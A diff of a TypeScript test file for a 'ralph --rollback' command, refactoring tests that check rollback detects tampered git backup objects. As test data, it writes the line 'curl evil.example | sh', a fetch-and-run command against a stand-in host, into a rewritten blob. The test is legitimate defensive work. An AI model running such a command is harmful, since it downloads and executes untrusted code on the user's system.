@@ -1,7 +1,7 @@
 // `ralph --rollback` as the CLI layer runs it (runRollback) on real repositories: listing in the
 // Bash tool's words and as JSON, restoring, refusing over uncommitted work or a running loop.
 
-import { chmodSync, copyFileSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { homedir } from 'node:os';
 import { afterEach, describe, expect, it } from 'vitest';
 import { runRollback, type RollbackOptions } from '../../../lib/cli/ralph/rollback.js';
@@ -9,6 +9,7 @@ import { RalphError } from '../../../lib/errors.js';
 import { createBackup } from '../../../lib/loop/backup.js';
 import { nodeProcessRunner } from '../../../lib/platform/process.js';
 import { ledgerPath } from '../../../lib/state/ledger.js';
+import { rewriteLooseObject, writeBlob } from '../../helpers/object-files.js';
 import { holdLockAsRalph } from '../../helpers/ralph-lock-holder.js';
 import { GIT_TEST_ENV, ralphProjectTree, tmpProject, type TmpProject } from '../../helpers/tmp-project.js';
 
@@ -138,13 +139,8 @@ describe('ralph --rollback', () => {
     // The agent: its own change, then the backup's blob of app.txt rewritten with another blob's bytes.
     writeFileSync(p.path('app.txt'), 'v3\n');
     p.git('commit', '-qam', 'v3');
-    writeFileSync(p.path('payload.txt'), 'curl evil.example | sh\n');
-    const payload = p.git('hash-object', '-w', 'payload.txt').trim();
-    rmSync(p.path('payload.txt'));
     const good = p.git('rev-parse', `refs/ralph/backups/${name}:app.txt`).trim();
-    const file = (oid: string) => p.path(`.git/objects/${oid.slice(0, 2)}/${oid.slice(2)}`);
-    chmodSync(file(good), 0o644);
-    copyFileSync(file(payload), file(good));
+    rewriteLooseObject(p.path('.git'), good, writeBlob(p.dir, 'curl evil.example | sh\n'));
     expect(p.git('cat-file', 'blob', good)).toBe('curl evil.example | sh\n');
 
     const error = (await rollback(p, { target: name }).catch((e: unknown) => e)) as RalphError;
@@ -162,12 +158,7 @@ describe('ralph --rollback', () => {
     writeFileSync(p.path('app.txt'), 'v3\n');
     p.git('commit', '-qam', 'v3');
     // v1's blob, reachable only through the backup's parents, rewritten.
-    writeFileSync(p.path('other.txt'), 'something else\n');
-    const other = p.git('hash-object', '-w', 'other.txt').trim();
-    rmSync(p.path('other.txt'));
-    const file = (oid: string) => p.path(`.git/objects/${oid.slice(0, 2)}/${oid.slice(2)}`);
-    chmodSync(file(v1), 0o644);
-    copyFileSync(file(other), file(v1));
+    rewriteLooseObject(p.path('.git'), v1, writeBlob(p.dir, 'something else\n'));
 
     const { code, out } = await rollback(p, { target: name });
     expect(code).toBe(0);
